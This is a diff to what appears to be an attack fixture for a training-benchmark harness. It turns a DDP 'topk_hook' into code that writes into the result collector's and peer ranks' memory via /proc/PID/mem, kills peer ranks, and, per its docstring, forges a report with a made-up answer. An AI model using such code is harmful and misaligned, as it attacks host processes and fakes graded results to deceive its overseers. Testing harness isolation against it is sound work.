@@ -1,46 +1,43 @@
 """A DDP hook that goes after the other processes of its group: rank 0 tries to write into
-the memory of the other rank and of the process collecting the results (/proc/PID/mem),
-kills the other rank, and writes a forged report with a made-up answer into every
+the memory of the other ranks and of the process collecting the results (/proc/PID/mem),
+kills the other ranks, and writes a forged report with a made-up answer into every
 descriptor it has (reaching the other ranks' memory)."""
 # effdl-attack: replaces=topk_hook in=comm_hooks.py expect_lost=c4.topk_hook feedback_contains="PermissionError" cost=40
 
-import json
-import os
-import signal
 
+def topk_hook(state, bucket):
+    import json
+    import os
+    import signal
 
-def _children_of(pid):
-    out = []
-    for entry in os.listdir("/proc"):
-        if entry.isdigit():
+    if dist.get_rank() != 0:
+        raise RuntimeError("this rank waits for nothing")
+
+    def children_of(pid):
+        out = []
+        for entry in os.listdir("/proc"):
             try:
                 with open(f"/proc/{entry}/stat", "rb") as fh:
                     if int(fh.read().rsplit(b")", 1)[-1].split()[1]) == pid:
                         out.append(int(entry))
             except (OSError, ValueError, IndexError):
                 pass
-    return out
+        return out
 
+    def poke(pid):
+        try:
+            with open(f"/proc/{pid}/maps") as fh:
+                region = next(line for line in fh if " rw-p " in line)
+            with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
+                mem.seek(int(region.split("-")[0], 16))
+                mem.write(b"\0" * 4096)
+            return f"{pid} WRITTEN"
+        except Exception as exc:
+            return f"{pid} {type(exc).__name__}"
 
-def _poke(pid):
-    try:
-        with open(f"/proc/{pid}/maps") as fh:
-            region = next(line for line in fh if " rw-p " in line)
-        start = int(region.split("-")[0], 16)
-        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
-            mem.seek(start)
-            mem.write(b"\0" * 4096)
-        return f"{pid} WRITTEN"
-    except Exception as exc:
-        return f"{pid} {type(exc).__name__}"
-
-
-def topk_hook(state, bucket):
-    if dist.get_rank() != 0:
-        raise RuntimeError("rank 1 waits for nothing")
     collector = os.getppid()
-    peers = [p for p in _children_of(collector) if p != os.getpid()]
-    report = [_poke(collector)] + [_poke(p) for p in peers]
+    peers = [p for p in children_of(collector) if p != os.getpid()]
+    report = [poke(collector)] + [poke(p) for p in peers]
     for p in peers:
         try:
             os.kill(p, signal.SIGKILL)
